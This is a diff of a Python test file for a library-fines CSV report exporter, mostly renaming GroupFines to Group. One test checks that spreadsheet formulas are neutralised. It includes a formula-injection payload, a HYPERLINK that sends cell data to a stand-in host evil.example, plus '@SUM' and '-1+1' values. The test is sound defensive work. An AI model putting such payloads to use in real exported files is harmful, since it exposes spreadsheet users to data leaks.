@@ -21,7 +21,7 @@ from support.report_samples import (
     sample_report,
 )
 
-from evergreen_groups.groups import GroupFines
+from evergreen_groups.groups import Group
 from evergreen_groups.render import harmless
 from evergreen_groups.render.report import render
 from evergreen_groups.render.report.csv import CHANGE_COLUMNS, GROUP_COLUMNS, MEMBER_COLUMNS
@@ -52,7 +52,7 @@ def test_one_row_for_each_member() -> None:
     members = [(group, one) for group in report.groups for one in group.members]
     assert len(read) == len(members)
     for row, (group, one) in zip(read, members, strict=True):
-        assert row["group"] == str(group.group)
+        assert row["group"] == str(group.number)
         assert Decimal(row["combined_fines"]) == group.combined_fines
         assert row["nobody_over_limit"] == str(group.nobody_over_limit).lower()
         assert row["lead_name"] == group.lead.name
@@ -116,7 +116,7 @@ def test_credit_stays_a_number() -> None:
 
 def test_formulas_are_made_harmless() -> None:
     hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
-    report = report_of([GroupFines(1, (member(1, hostile, "30.00", barcode="-1+1", library="@SUM(A1)"),))])
+    report = report_of([Group(1, (member(1, hostile, "30.00", barcode="-1+1", library="@SUM(A1)"),))])
     [row] = rows(csv_text(report))
     assert row["member_name"] == "'" + hostile
     assert row["lead_name"] == "'" + hostile
@@ -154,6 +154,6 @@ def test_libraries_of_cleared_groups_are_no_formulas(report: Report) -> None:
 
 
 def test_half_a_surrogate_pair_does_not_stop_the_report() -> None:
-    report = report_of([GroupFines(1, (member(1, "Smith\ud83d", "30.00"),))])
+    report = report_of([Group(1, (member(1, "Smith\ud83d", "30.00"),))])
     csv_text(report).encode("utf-8")
     assert rows(csv_text(report))[0]["member_name"] == "Smith\ufffd"
